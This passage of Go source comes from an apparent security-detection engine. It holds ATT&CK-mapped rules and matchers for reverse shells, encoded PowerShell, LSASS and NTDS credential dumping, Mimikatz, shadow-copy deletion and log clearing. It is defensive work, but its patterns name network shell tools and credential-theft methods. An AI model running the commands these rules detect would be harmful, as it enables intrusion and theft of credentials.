package detect

import (
	"encoding/base64"
	"strings"
	"unicode/utf16"

	"github.com/loupe-sec/loupe/internal/event"
	"github.com/loupe-sec/loupe/internal/finding"
)

// rules is the built-in rule table. Command-line triggered rules are tried
// in this order and the first match wins, so specific rules come first.
var rules = []*rule{
	// --- Command and Control: interactive channels ---
	{
		id: "loupe-reverse-shell-powershell", title: "PowerShell reverse shell",
		level: finding.Critical, tactic: "command-and-control", techniques: []string{"T1059.001", "T1095"},
		anchors: []string{"tcpclient"},
		match:   matchPowerShellReverseShell,
	},
	{
		id: "loupe-reverse-shell", title: "Reverse shell command",
		level: finding.Critical, tactic: "command-and-control", techniques: []string{"T1059.004", "T1095"},
		anchors: []string{"/dev/tcp/", "/dev/udp/", "nc ", "nc.", "ncat", "netcat", "mkfifo", "socket", "socat"},
		match:   matchReverseShell,
	},
	// --- Execution ---
	{
		id: "loupe-encoded-powershell", title: "Encoded PowerShell command",
		level: finding.High, tactic: "execution", techniques: []string{"T1059.001", "T1027.010"},
		anchors: []string{"powershell", "pwsh"},
		match:   matchEncodedPowerShell,
	},
	// --- Credential Access ---
	{
		id: "loupe-lsass-dump", title: "LSASS memory dump",
		level: finding.Critical, tactic: "credential-access", techniques: []string{"T1003.001"},
		anchors: []string{"lsass", "sekurlsa", "comsvcs", "minidump"},
		match:   matchLsassDump,
	},
	{
		id: "loupe-mimikatz", title: "Mimikatz credential theft",
		level: finding.Critical, tactic: "credential-access", techniques: []string{"T1003"},
		anchors: []string{"mimikatz", "::"},
		match:   matchMimikatz,
	},
	{
		id: "loupe-sam-dump", title: "Registry credential hive saved",
		level: finding.High, tactic: "credential-access", techniques: []string{"T1003.002"},
		anchors: []string{"hklm\\s", "hkey_local_machine\\s"},
		match:   matchSamDump,
	},
	{
		id: "loupe-ntds-dump", title: "Active Directory database copied",
		level: finding.Critical, tactic: "credential-access", techniques: []string{"T1003.003"},
		anchors: []string{"ntds"},
		match:   matchNtdsDump,
	},
	{
		id: "loupe-lsass-access", title: "Suspicious LSASS process access",
		level: finding.High, tactic: "credential-access", techniques: []string{"T1003.001"},
		eventIDs: []int{10},
		match:    matchLsassAccess,
	},
	{
		id: "loupe-dcsync", title: "Directory replication requested by a non-DC account (DCSync)",
		level: finding.Critical, tactic: "credential-access", techniques: []string{"T1003.006"},
		eventIDs: []int{4662},
		match:    matchDCSync,
	},
	{
		id: "loupe-asrep-roasting", title: "Kerberos TGT issued without pre-authentication (AS-REP roasting)",
		level: finding.High, tactic: "credential-access", techniques: []string{"T1558.004"},
		eventIDs: []int{4768},
		match:    matchASREPRoast,
	},
	{
		id: "loupe-hive-copy", title: "Registry credential hive file copied",
		level: finding.High, tactic: "credential-access", techniques: []string{"T1003.002"},
		anchors: []string{`\config\sam`, `\config\system`, `\config\security`},
		match:   matchHiveCopy,
	},
	{
		id: "loupe-credential-store", title: "Credential store accessed",
		level: finding.Medium, tactic: "credential-access", techniques: []string{"T1555", "T1555.003", "T1555.004", "T1552.001"},
		anchors: []string{"vaultcmd", `\login data`, `\cookies`, "logins.json", "key3.db", "key4.db", `\web data`, `\microsoft\credentials\`, `\microsoft\protect\`, "findstr"},
		match:   matchCredentialStore,
	},
	// --- Lateral Movement ---
	{
		id: "loupe-remote-exec-command", title: "Command executed on a remote host",
		level: finding.High, tactic: "lateral-movement", techniques: []string{"T1021", "T1021.002", "T1021.006", "T1047"},
		anchors: []string{`\\`, "/node:", "-computername", "-cn ", "enter-pssession", "new-pssession", "winrs", "psexec", "paexec", "schtasks"},
		match:   matchRemoteExecCommand,
	},
	{
		id: "loupe-wmi-remote-exec", title: "Process started through WMI",
		level: finding.High, tactic: "lateral-movement", techniques: []string{"T1047", "T1021"},
		eventIDs: []int{1, 4688},
		match:    matchWMIRemote,
	},
	{
		id: "loupe-winrm-remote-exec", title: "Process started through WinRM",
		level: finding.High, tactic: "lateral-movement", techniques: []string{"T1021.006"},
		eventIDs: []int{1, 4688},
		match:    matchWinRMRemote,
	},
	{
		id: "loupe-dcom-remote-exec", title: "Shell started through DCOM",
		level: finding.High, tactic: "lateral-movement", techniques: []string{"T1021.003"},
		eventIDs: []int{1, 4688},
		match:    matchDCOMRemote,
	},
	{
		id: "loupe-admin-share", title: "Administrative share or remote-control pipe accessed",
		level: finding.Medium, tactic: "lateral-movement", techniques: []string{"T1021.002"},
		eventIDs: []int{5140, 5145},
		match:    matchAdminShare,
	},
	{
		id: "loupe-pass-the-hash", title: "Logon pattern of pass-the-hash",
		level: finding.High, tactic: "lateral-movement", techniques: []string{"T1550.002"},
		eventIDs: []int{4624},
		match:    matchPassTheHash,
	},
	{
		id: "loupe-rdp-logon", title: "Remote Desktop logon",
		level: finding.Low, tactic: "lateral-movement", techniques: []string{"T1021.001"},
		eventIDs: []int{4624},
		match:    matchRDPLogon,
	},
	// --- Privilege Escalation ---
	{
		id: "loupe-uac-bypass-registry", title: "UAC bypass through a hijacked auto-elevation key",
		level: finding.High, tactic: "privilege-escalation", techniques: []string{"T1548.002"},
		eventIDs: []int{12, 13, 14},
		anchors:  []string{`\shell\open\command`, `\app paths\control.exe`, `\environment\windir`, `\sdclt.exe`},
		match:    matchUACBypassRegistry,
	},
	{
		id: "loupe-uac-bypass-process", title: "Auto-elevating binary started an unexpected child",
		level: finding.High, tactic: "privilege-escalation", techniques: []string{"T1548.002"},
		eventIDs: []int{1, 4688},
		match:    matchUACBypassProcess,
	},
	{
		id: "loupe-pipe-impersonation", title: "Named pipe impersonation (getsystem)",
		level: finding.High, tactic: "privilege-escalation", techniques: []string{"T1134.001"},
		eventIDs: []int{7045, 4697},
		anchors:  []string{`\\.\pipe\`},
		match:    matchPipeImpersonation,
	},
	{
		id: "loupe-service-hijack", title: "Service binary path changed",
		level: finding.High, tactic: "privilege-escalation", techniques: []string{"T1574.011", "T1543.003"},
		eventIDs: []int{12, 13, 14},
		anchors:  []string{"sc ", "sc.exe", "imagepath"},
		match:    matchServiceHijack,
	},
	// --- Impact ---
	{
		id: "loupe-inhibit-recovery", title: "Shadow copies or recovery disabled",
		level: finding.Critical, tactic: "impact", techniques: []string{"T1490"},
		anchors: []string{"shadow", "bcdedit", "wbadmin"},
		match:   matchInhibitRecovery,
	},
	// --- Defense Evasion ---
	{
		id: "loupe-windows-log-cleared", title: "Windows event log cleared",
		level: finding.High, tactic: "defense-evasion", techniques: []string{"T1070.001"},
		eventIDs: []int{1102, 104},
		anchors:  []string{"wevtutil", "clear-eventlog", "clearlog"},
		match:    matchWindowsLogCleared,
	},
	{
		id: "loupe-linux-log-cleared", title: "Linux system logs cleared",
		level: finding.High, tactic: "defense-evasion", techniques: []string{"T1070.002"},
		anchors: []string{"/var/log", "journalctl"},
		match:   matchLinuxLogCleared,
	},
	{
		id: "loupe-history-cleared", title: "Command history cleared",
		level: finding.High, tactic: "defense-evasion", techniques: []string{"T1070.003"},
		anchors: []string{"history"},
		match:   matchHistoryCleared,
	},
	{
		id: "loupe-history-disabled", title: "Command history logging disabled",
		level: finding.High, tactic: "defense-evasion", techniques: []string{"T1562.003"},
		anchors: []string{"histfile", "histsize", "set +o history"},
		match:   matchHistoryDisabled,
	},
	{
		id: "loupe-certutil-download", title: "Certutil used to download a file",
		level: finding.High, tactic: "command-and-control", techniques: []string{"T1105"},
		anchors: []string{"certutil"},
		match:   matchCertutilDownload,
	},
	{
		id: "loupe-certutil-decode", title: "Certutil used to decode a file",
		level: finding.Medium, tactic: "defense-evasion", techniques: []string{"T1140"},
		anchors: []string{"certutil"},
		match:   matchCertutilDecode,
	},
	{
		id: "loupe-bits-transfer", title: "BITS job downloads a file",
		level: finding.High, tactic: "command-and-control", techniques: []string{"T1105", "T1197"},
		anchors: []string{"bitsadmin", "start-bitstransfer"},
		match:   matchBitsTransfer,
	},
	{
		id: "loupe-mshta-script", title: "Mshta runs remote or inline script",
		level: finding.High, tactic: "defense-evasion", techniques: []string{"T1218.005"},
		anchors: []string{"mshta"},
		match:   matchMshta,
	},
	{
		id: "loupe-regsvr32-scriptlet", title: "Regsvr32 loads a remote scriptlet",
		level: finding.High, tactic: "defense-evasion", techniques: []string{"T1218.010"},
		anchors: []string{"regsvr32"},
		match:   matchRegsvr32,
	},
	{
		id: "loupe-rundll32-script", title: "Rundll32 runs script code",
		level: finding.High, tactic: "defense-evasion", techniques: []string{"T1218.011"},
		anchors: []string{"rundll32"},
		match:   matchRundll32,
	},
	{
		id: "loupe-proxy-exec", title: "Signed binary proxy execution",
		level: finding.Medium, tactic: "defense-evasion", techniques: []string{"T1218", "T1127.001", "T1220"},
		anchors: []string{"msbuild", "installutil", "cmstp", "odbcconf", "format:", "msxsl", "regsvr32", "rundll32", "msiexec", "mavinject", "hh.exe", "hh ", "forfiles", "pcalua", "control", "regasm", "regsvcs"},
		match:   matchProxyExec,
	},
	{
		id: "loupe-defender-tampering", title: "Microsoft Defender disabled or weakened",
		level: finding.High, tactic: "defense-evasion", techniques: []string{"T1562.001"},
		eventIDs: []int{5001, 5010, 5012, 12, 13, 14},
		anchors:  []string{"set-mppreference", "add-mppreference", "windefend", "wdnissvc", "wdboot", "wdfilter", "sense ", "windows defender"},
		match:    matchDefenderTamper,
	},
	{
		id: "loupe-logging-tampering", title: "Event logging or monitoring disabled",
		level: finding.High, tactic: "defense-evasion", techniques: []string{"T1562.002", "T1562.006"},
		eventIDs: []int{4719, 1100, 12, 13, 14},
		anchors:  []string{"fltmc", "sysmon", "auditpol", "wevtutil", "logman", "eventlog"},
		match:    matchLoggingTamper,
	},
	{
		id: "loupe-firewall-tampering", title: "Windows Firewall disabled or opened",
		level: finding.Medium, tactic: "defense-evasion", techniques: []string{"T1562.004"},
		anchors: []string{"netsh", "set-netfirewallprofile"},
		match:   matchFirewallTamper,
	},
	{
		id: "loupe-hidden-file", title: "File hidden with attrib",
		level: finding.Low, tactic: "defense-evasion", techniques: []string{"T1564.001"},
		anchors: []string{"attrib"},
		match:   matchHiddenFile,
	},
	{
		id: "loupe-remote-thread", title: "Remote thread created in another process",
		level: finding.High, tactic: "defense-evasion", techniques: []string{"T1055"},
		eventIDs: []int{8},
		match:    matchRemoteThread,
	},
	{
		id: "loupe-injected-code-access", title: "Process opened from injected code",
		level: finding.Medium, tactic: "defense-evasion", techniques: []string{"T1055"},
		eventIDs: []int{10},
		match:    matchInjectedAccess,
	},
	{
		id: "loupe-timestomp", title: "File creation time changed",
		level: finding.Medium, tactic: "defense-evasion", techniques: []string{"T1070.006"},
		eventIDs: []int{2},
		match:    matchTimestomp,
	},
	{
		id: "loupe-masquerading", title: "System binary name run from the wrong place",
		level: finding.High, tactic: "defense-evasion", techniques: []string{"T1036.005"},
		eventIDs: []int{1, 4688},
		match:    matchMasquerade,
	},
	{
		id: "loupe-office-child", title: "Office application started a shell",
		level: finding.High, tactic: "execution", techniques: []string{"T1204.002"},
		eventIDs: []int{1, 4688},
		match:    matchOfficeChild,
	},
	{
		id: "loupe-download-exec-powershell", title: "PowerShell download and execute",
		level: finding.High, tactic: "execution", techniques: []string{"T1059.001", "T1105"},
		anchors: []string{"iex", "invoke-expression"},
		match:   matchDownloadExecPowerShell,
	},
	{
		id: "loupe-download-exec", title: "Shell download and execute",
		level: finding.High, tactic: "execution", techniques: []string{"T1059.004", "T1105"},
		anchors: []string{"curl", "wget"},
		match:   matchDownloadExecShell,
	},
	// --- Persistence: accounts ---
	{
		id: "loupe-admin-group-add", title: "Account added to a privileged group",
		level: finding.High, tactic: "persistence", techniques: []string{"T1098"},
		eventIDs: []int{4728, 4732, 4756},
		programs: []string{"usermod", "gpasswd", "useradd"},
		anchors:  []string{"localgroup", " group ", "usermod", "gpasswd", "adduser", "add-localgroupmember", "add-adgroupmember"},
		match:    matchAdminGroupAdd,
	},
	{
		id: "loupe-account-created", title: "Account created",
		level: finding.Medium, tactic: "persistence", techniques: []string{"T1136.001"},
		eventIDs: []int{4720},
		programs: []string{"useradd"},
		anchors:  []string{" user ", "useradd", "adduser", "new-localuser", "new-aduser"},
		match:    matchAccountCreated,
	},
	// --- Persistence / Lateral Movement: services, tasks, autostart ---
	{
		id: "loupe-psexec-service", title: "Remote execution service installed (PsExec-style)",
		level: finding.High, tactic: "lateral-movement", techniques: []string{"T1021.002", "T1569.002"},
		eventIDs: []int{7045, 4697},
		match:    matchPsexecService,
	},
	{
		id: "loupe-service-installed", title: "Windows service installed",
		level: finding.Medium, tactic: "persistence", techniques: []string{"T1543.003"},
		eventIDs: []int{7045, 4697},
		anchors:  []string{"sc ", "sc.exe", "new-service"},
		match:    matchServiceInstalled,
	},
	{
		id: "loupe-scheduled-task", title: "Scheduled task created",
		level: finding.Medium, tactic: "persistence", techniques: []string{"T1053.005"},
		eventIDs: []int{4698},
		anchors:  []string{"schtasks", "register-scheduledtask"},
		match:    matchScheduledTask,
	},
	{
		id: "loupe-run-key", title: "Registry Run key autostart",
		level: finding.Medium, tactic: "persistence", techniques: []string{"T1547.001"},
		eventIDs: []int{13},
		anchors:  []string{"\\currentversion\\run"},
		match:    matchRunKey,
	},
	{
		id: "loupe-wmi-subscription", title: "WMI event subscription persistence",
		level: finding.High, tactic: "persistence", techniques: []string{"T1546.003"},
		eventIDs: []int{19, 20, 21, 5861},
		anchors:  []string{"commandlineeventconsumer", "activescripteventconsumer", "__eventfilter"},
		match:    matchWMISubscription,
	},
	{
		id: "loupe-ifeo-hijack", title: "Image File Execution Options or accessibility binary hijack",
		level: finding.High, tactic: "persistence", techniques: []string{"T1546.008", "T1546.012"},
		eventIDs: []int{12, 13, 14},
		anchors:  []string{"sethc", "utilman", "osk.exe", "magnify", "narrator", "displayswitch", "atbroker"},
		match:    matchAccessibility,
	},
	{
		id: "loupe-autostart-registry", title: "Registry autostart location changed",
		level: finding.Medium, tactic: "persistence", techniques: []string{"T1547", "T1546"},
		eventIDs: []int{12, 13, 14},
		match:    matchAutostartRegistry,
	},
	{
		id: "loupe-port-proxy", title: "Port forwarding configured with netsh portproxy",
		level: finding.High, tactic: "command-and-control", techniques: []string{"T1090"},
		eventIDs: []int{12, 13, 14},
		anchors:  []string{"portproxy"},
		match:    matchPortProxy,
	},
	{
		id: "loupe-systemd-persistence", title: "Systemd service planted",
		level: finding.Medium, tactic: "persistence", techniques: []string{"T1543.002"},
		anchors: []string{"systemd", "systemctl"},
		match:   matchSystemd,
	},
	{
		id: "loupe-cron-persistence", title: "Cron job persistence",
		level: finding.Medium, tactic: "persistence", techniques: []string{"T1053.003"},
		programs: []string{"cron", "crond"},
		anchors:  []string{"crontab", "/etc/cron", "/var/spool/cron"},
		match:    matchCron,
	},
}

// --- Windows log origin checks (typed fields only) ---

func noOrigin(ev *event.Event) bool { return ev.Channel == "" && ev.Provider == "" }

func fromSecurity(ev *event.Event) bool {
	return noOrigin(ev) || strings.EqualFold(ev.Channel, "Security") || containsFold(ev.Provider, "security-auditing")
}

func fromSysmon(ev *event.Event) bool {
	return containsFold(ev.Provider, "sysmon") || containsFold(ev.Channel, "sysmon")
}

func data(ev *event.Event, name string) string {
	v, _ := ev.Data(name)
	return v
}

// --- reverse shells ---

func matchPowerShellReverseShell(in *input) (hit, bool) {
	lc := in.lc
	if !strings.Contains(lc, "net.sockets.tcpclient") && !strings.Contains(lc, "system.net.sockets.tcpclient") {
		return hit{}, false
	}
	if !(strings.Contains(lc, "getstream") || strings.Contains(lc, "iex") || strings.Contains(lc, "invoke-expression")) {
		return hit{}, false
	}
	target := ipPort(in.cmd)
	what := "opened a PowerShell reverse shell"
	if target != "" {
		what += " to " + target
	}
	return hit{what: what + " with " + quoted(in.cmd, 160), object: orNorm(target, in.lc)}, true
}

func matchReverseShell(in *input) (hit, bool) {
	lc := in.lc
	target := ""
	switch {
	case strings.Contains(lc, "/dev/tcp/") || strings.Contains(lc, "/dev/udp/"):
		i := strings.Index(lc, "/dev/tcp/")
		if i < 0 {
			i = strings.Index(lc, "/dev/udp/")
		}
		rest := in.cmd[i+len("/dev/tcp/"):]
		host, port, _ := strings.Cut(rest, "/")
		n := 0
		for n < len(port) && port[n] >= '0' && port[n] <= '9' {
			n++
		}
		target = host
		if n > 0 {
			target += ":" + port[:n]
		}
	case (hasProg(lc, "nc") || hasProg(lc, "ncat") || hasProg(lc, "netcat")) &&
		(strings.Contains(lc, " -e ") || strings.Contains(lc, " -c ") || pipesToShell(lc) || strings.Contains(lc, "mkfifo")):
	case hasProg(lc, "mkfifo") && (hasProg(lc, "telnet") || strings.Contains(lc, "openssl s_client")) && pipesToShellLoose(lc):
	case (hasProg(lc, "python") || hasProg(lc, "python2") || hasProg(lc, "python3") || hasProg(lc, "perl") || hasProg(lc, "ruby") || hasProg(lc, "php")) &&
		strings.Contains(lc, "socket") &&
		(strings.Contains(lc, "subprocess") || strings.Contains(lc, "pty.spawn") || strings.Contains(lc, "dup2") ||
			strings.Contains(lc, "/bin/sh") || strings.Contains(lc, "/bin/bash") || strings.Contains(lc, "fsockopen")):
	case hasProg(lc, "socat") && (strings.Contains(lc, "exec:") || strings.Contains(lc, "system:")) && strings.Contains(lc, "tcp"):
	default:
		return hit{}, false
	}
	if target == "" {
		target = ipPort(in.cmd)
	}
	what := "opened a reverse shell"
	if target != "" {
		what += " to " + target
	}
	return hit{what: what + " with " + quoted(in.cmd, 160), object: orNorm(target, lc)}, true
}

func pipesToShell(lc string) bool {
	for _, s := range []string{"|sh", "| sh", "|bash", "| bash", "|/bin/sh", "| /bin/sh", "|/bin/bash", "| /bin/bash"} {
		if i := strings.Index(lc, s); i >= 0 {
			end := i + len(s)
			if end == len(lc) || strings.IndexByte(" ;&|-", lc[end]) >= 0 {
				return true
			}
		}
	}
	return false
}

func pipesToShellLoose(lc string) bool {
	return pipesToShell(lc) || strings.Contains(lc, "/bin/sh") || strings.Contains(lc, "/bin/bash")
}

func orNorm(object, lc string) string {
	if object != "" {
		return strings.ToLower(object)
	}
	return norm(lc)
}

// --- encoded PowerShell ---

func matchEncodedPowerShell(in *input) (hit, bool) {
	i := progIndex(in.lc, "powershell")
	if i < 0 {
		i = progIndex(in.lc, "pwsh")
	}
	if i < 0 {
		return hit{}, false
	}
	rest := in.cmd[i:]
	_, rest = nextField(rest) // the program itself
	for rest != "" {
		var a string
		a, rest = nextField(rest)
		if len(a) < 2 || (a[0] != '-' && a[0] != '/') {
			continue
		}
		flag := a[1:]
		isEC := len(flag) == 2 && equalFoldASCII(flag, "ec")
		if !isEC && !(len(flag) <= len("encodedcommand") && equalFoldASCII(flag, "encodedcommand"[:len(flag)])) {
			continue
		}
		next, _ := nextField(rest)
		payload := strings.Trim(next, `"'`)
		text, ok := decodePowerShell(payload)
		if !ok && (len(flag) < 3 || len(payload) < 8) {
			continue // "-e" needs a decodable payload to count
		}
		h := hit{object: norm(clip(payload, 120))}
		if ok {
			h.what = "ran PowerShell with an encoded command that decodes to " + quoted(text, 160)
			lt := strings.ToLower(text)
			h.raise = strings.Contains(lt, "downloadstring") || strings.Contains(lt, "net.webclient") ||
				strings.Contains(lt, "tcpclient") || strings.Contains(lt, "invoke-webrequest") ||
				strings.Contains(lt, "iex") || strings.Contains(lt, "frombase64string")
		} else {
			h.what = "ran PowerShell with an encoded command " + quoted(payload, 60)
		}
		return h, true
	}
	return hit{}, false
}

// decodePowerShell decodes a -EncodedCommand payload: base64 of UTF-16LE
// text (plain UTF-8 is accepted too). It returns a bounded excerpt.
// decodedSuffix describes the encoded PowerShell inside a launched
// command (service image, task action, Run value), or returns "".
func decodedSuffix(command string) string {
	if !strings.Contains(strings.ToLower(command), "powershell") && !strings.Contains(strings.ToLower(command), "pwsh") {
		return ""
	}
	h, ok := matchEncodedPowerShell(&input{cmd: command, lc: string(appendLower(nil, command))})
	if !ok {
		return ""
	}
	_, text, found := strings.Cut(h.what, "decodes to ")
	if !found {
		return ""
	}
	return "; the encoded PowerShell decodes to " + text
}

// nextField splits the first white-space separated field off s.
func nextField(s string) (field, rest string) {
	i := 0
	for i < len(s) && (s[i] == ' ' || s[i] == '\t') {
		i++
	}
	j := i
	for j < len(s) && s[j] != ' ' && s[j] != '\t' {
		j++
	}
	return s[i:j], s[j:]
}

func decodePowerShell(s string) (string, bool) {
	if len(s) < 16 || len(s) > 1<<16 {
		return "", false
	}
	for i := 0; i < len(s); i++ {
		c := s[i]
		if !(c >= 'A' && c <= 'Z' || c >= 'a' && c <= 'z' || c >= '0' && c <= '9' || c == '+' || c == '/' || c == '=') {
			return "", false
		}
	}
	raw, err := base64.StdEncoding.DecodeString(s)
	if err != nil {
		raw, err = base64.RawStdEncoding.DecodeString(strings.TrimRight(s, "="))
		if err != nil {
			return "", false
		}
	}
	if len(raw) > 2048 {
		raw = raw[:2048]
	}
	var text string
	zeros := 0
	for i := 1; i < len(raw); i += 2 {
		if raw[i] == 0 {
			zeros++
		}
	}
	if len(raw) >= 2 && zeros*4 >= len(raw) { // UTF-16LE: most high bytes are zero
		u := make([]uint16, len(raw)/2)
		for i := range u {
			u[i] = uint16(raw[2*i]) | uint16(raw[2*i+1])<<8
		}
		text = string(utf16.Decode(u))
	} else {
		text = string(raw)
	}
	printable := 0
	for _, r := range text {
		if r >= ' ' && r != 0xfffd || r == '\n' || r == '\r' || r == '\t' {
			printable++
		}
	}
	if printable*10 < len([]rune(text))*9 {
		return "", false
	}
	return clip(oneLine(text), 200), true
}

// --- credential dumping ---

func matchLsassDump(in *input) (hit, bool) {
	lc := in.lc
	var how string
	switch {
	case strings.Contains(lc, "sekurlsa::"):
		how = "Mimikatz " + mimikatzCommand(in.cmd, lc)
	case (hasProg(lc, "procdump") || hasProg(lc, "procdump64")) && strings.Contains(lc, "lsass"):
		how = "ProcDump"
	case strings.Contains(lc, "comsvcs") && strings.Contains(lc, "minidump"):
		how = "comsvcs.dll MiniDump"
	case strings.Contains(lc, "minidump") && strings.Contains(lc, "lsass"):
		how = "a MiniDump helper"
	case strings.Contains(lc, "lsass") && (strings.Contains(lc, "rdrleakdiag") || strings.Contains(lc, "sqldumper") || strings.Contains(lc, "createdump")):
		how = "a dump utility"
	default:
		return hit{}, false
	}
	return hit{what: "dumped LSASS memory with " + how + ": " + quoted(in.cmd, 160), object: norm(lc)}, true
}

func matchMimikatz(in *input) (hit, bool) {
	lc := in.lc
	cmd := mimikatzCommand(in.cmd, lc)
	if !strings.Contains(lc, "mimikatz") && cmd == "" {
		return hit{}, false
	}
	what := "ran Mimikatz"
	if cmd != "" {
		what += " " + cmd
	}
	return hit{what: what + ": " + quoted(in.cmd, 160), object: norm(lc)}, true
}

// mimikatzCommand returns the first Mimikatz module::command in cmd.
func mimikatzCommand(cmd, lc string) string {
	for _, m := range []string{"sekurlsa::", "lsadump::", "kerberos::", "privilege::", "token::", "crypto::", "dpapi::", "vault::", "misc::"} {
		if i := strings.Index(lc, m); i >= 0 {
			end := i + len(m)
			for end < len(cmd) && strings.IndexByte(" \t\"';", cmd[end]) < 0 {
				end++
			}
			return cmd[i:end]
		}
	}
	return ""
}

func matchSamDump(in *input) (hit, bool) {
	lc := in.lc
	if !hasProg(lc, "reg") || !(strings.Contains(lc, " save ") || strings.Contains(lc, " export ")) {
		return hit{}, false
	}
	for _, hive := range []string{"sam", "security", "system"} {
		for _, root := range []string{"hklm\\", "hkey_local_machine\\"} {
			i := strings.Index(lc, root+hive)
			if i < 0 {
				continue
			}
			end := i + len(root) + len(hive)
			if end < len(lc) && strings.IndexByte(" \"'", lc[end]) < 0 {
				continue // a subkey such as HKLM\SYSTEM\CurrentControlSet\...
			}
			as := args(in.cmd)
			dest := ""
			for k, a := range as {
				if strings.EqualFold(a, root[:len(root)-1]+`\`+hive) && k+1 < len(as) {
					dest = as[k+1]
				}
			}
			what := "saved the " + strings.ToUpper(hive) + " registry hive"
			if dest != "" {
				what += " to " + dest
			}
			return hit{what: what, object: hive + "|" + strings.ToLower(dest)}, true
		}
	}
	return hit{}, false
}

func matchNtdsDump(in *input) (hit, bool) {
	lc := in.lc
	switch {
	case hasProg(lc, "ntdsutil") && (strings.Contains(lc, "ifm") || strings.Contains(lc, "ac i ntds") || strings.Contains(lc, "activate instance ntds")):
		return hit{what: "created a copy of the Active Directory database with ntdsutil: " + quoted(in.cmd, 160), object: norm(lc)}, true
	case strings.Contains(lc, "ntds.dit") && !hasProg(lc, "ntdsutil"):
		return hit{what: "copied the Active Directory database (ntds.dit): " + quoted(in.cmd, 160), object: norm(lc)}, true
	}
	return hit{}, false
}

// benignLsassReaders are system processes that open LSASS routinely.
var benignLsassReaders = []string{"svchost.exe", "wininit.exe", "csrss.exe", "services.exe", "lsm.exe", "wmiprvse.exe", "smss.exe", "winlogon.exe", "lsaiso.exe", "mrt.exe"}

var lsassDumpAccess = []string{"0x1010", "0x1410", "0x1fffff", "0x1f3fff", "0x1f0fff", "0x1438", "0x143a", "0x1418"}

func matchLsassAccess(in *input) (hit, bool) {
	ev := in.ev
	if !fromSysmon(ev) {
		return hit{}, false
	}
	target := data(ev, "TargetImage")
	if !strings.HasSuffix(strings.ToLower(target), `\lsass.exe`) {
		return hit{}, false
	}
	access := strings.ToLower(data(ev, "GrantedAccess"))
	suspicious := false
	for _, a := range lsassDumpAccess {
		if access == a {
			suspicious = true
		}
	}
	if !suspicious {
		return hit{}, false
	}
	src := data(ev, "SourceImage")
	lsrc := strings.ToLower(src)
	base := basename(lsrc)
	if strings.Contains(lsrc, `\windows defender`) || strings.Contains(lsrc, `\microsoft security client`) {
		return hit{}, false
	}
	if strings.Contains(lsrc, `\windows\system32\`) || strings.Contains(lsrc, `\windows\syswow64\`) {
		for _, b := range benignLsassReaders {
			if base == b {
				return hit{}, false
			}
		}
	}
	trace := strings.ToLower(data(ev, "CallTrace"))
	raise := strings.Contains(trace, "dbgcore.dll") || strings.Contains(trace, "dbghelp.dll") || strings.Contains(trace, "unknown") ||
		base == "rundll32.exe" || strings.HasPrefix(base, "procdump") || base == "powershell.exe" || strings.Contains(base, "mimikatz")
	return hit{
		what:   "opened LSASS memory from " + src + " with access " + access,
		object: lsrc + "|" + access,
		raise:  raise,
	}, true
}

// --- impact ---

func matchInhibitRecovery(in *input) (hit, bool) {
	lc := in.lc
	var what string
	switch {
	case hasProg(lc, "vssadmin") && strings.Contains(lc, "delete") && strings.Contains(lc, "shadows"):
		what = "deleted volume shadow copies"
	case hasProg(lc, "vssadmin") && strings.Contains(lc, "resize") && strings.Contains(lc, "shadowstorage"):
		what = "shrank shadow copy storage to purge shadow copies"
	case hasProg(lc, "wmic") && strings.Contains(lc, "shadowcopy") && strings.Contains(lc, "delete"):
		what = "deleted volume shadow copies with WMIC"
	case strings.Contains(lc, "win32_shadowcopy") && (strings.Contains(lc, ".delete(") || strings.Contains(lc, "remove-wmiobject") || strings.Contains(lc, "remove-ciminstance")):
		what = "deleted volume shadow copies through WMI"
	case hasProg(lc, "bcdedit") && (strings.Contains(lc, "recoveryenabled no") || strings.Contains(lc, "ignoreallfailures")):
		what = "disabled Windows recovery with bcdedit"
	case hasProg(lc, "wbadmin") && strings.Contains(lc, "delete") && (strings.Contains(lc, "catalog") || strings.Contains(lc, "backup")):
		what = "deleted the Windows backup catalog"
	default:
		return hit{}, false
	}
	return hit{what: what + ": " + quoted(in.cmd, 160), object: norm(lc)}, true
}

// --- log and history clearing ---

func matchWindowsLogCleared(in *input) (hit, bool) {
	ev := in.ev
	if in.lc == "" {
		switch ev.EventID {
		case 1102:
			if !(fromSecurity(ev) || containsFold(ev.Provider, "eventlog")) {
				return hit{}, false
			}
			return hit{what: "cleared the Security event log" + by(ev), object: "security"}, true
		case 104:
			if !(noOrigin(ev) || containsFold(ev.Provider, "eventlog") || strings.EqualFold(ev.Channel, "System")) {
				return hit{}, false
			}
			log := ""
			for _, p := range []string{"Event.UserData.LogFileCleared.Channel", "UserData.LogFileCleared.Channel"} {
				if v, ok := ev.Field(p); ok {
					log = v
					break
				}
			}
			if log == "" {
				log = data(ev, "Channel")
			}
			if log == "" {
				return hit{what: "cleared an event log" + by(ev), object: "unknown"}, true
			}
			return hit{what: "cleared the " + log + " event log" + by(ev), object: strings.ToLower(log)}, true
		}
		return hit{}, false
	}
	lc := in.lc
	switch {
	case hasProg(lc, "wevtutil") && (strings.Contains(lc, " cl ") || strings.Contains(lc, " clear-log ")):
		as := args(in.cmd)
		log := argAfter(as, "cl", "clear-log")
		return hit{what: "cleared the " + log + " event log with wevtutil", object: strings.ToLower(log)}, true
	case strings.Contains(lc, "clear-eventlog"):
		log := argAfter(args(in.cmd), "-logname", "-log")
		if log == "" {
			log = "Windows"
		}
		return hit{what: "cleared the " + log + " event log with Clear-EventLog", object: strings.ToLower(log)}, true
	case strings.Contains(lc, "eventlogsession") && strings.Contains(lc, "clearlog"):
		return hit{what: "cleared an event log through EventLogSession.ClearLog", object: norm(lc)}, true
	}
	return hit{}, false
}

func by(ev *event.Event) string {
	if ev.User != "" {
		return " as " + ev.User
	}
	return ""
}

func matchLinuxLogCleared(in *input) (hit, bool) {
	lc := in.lc
	if hasProg(lc, "journalctl") && strings.Contains(lc, "--vacuum") {
		return hit{what: "purged the systemd journal: " + quoted(in.cmd, 120), object: norm(lc)}, true
	}
	i := strings.Index(lc, "/var/log")
	if i < 0 {
		return hit{}, false
	}
	path := in.cmd[i:]
	if j := strings.IndexAny(path, " \t;|&'\""); j >= 0 {
		path = path[:j]
	}
	verb := ""
	switch {
	case hasProg(lc, "rm") || hasProg(lc, "unlink") || hasProg(lc, "srm"):
		verb = "deleted"
	case hasProg(lc, "shred") || hasProg(lc, "wipe"):
		verb = "shredded"
	case hasProg(lc, "truncate"):
		verb = "truncated"
	case emptiesByRedirect(lc, i):
		verb = "emptied"
	default:
		return hit{}, false
	}
	return hit{what: verb + " " + path, object: verb + "|" + strings.ToLower(path)}, true
}

// emptiesByRedirect reports a truncating redirect ("> /var/log/x",
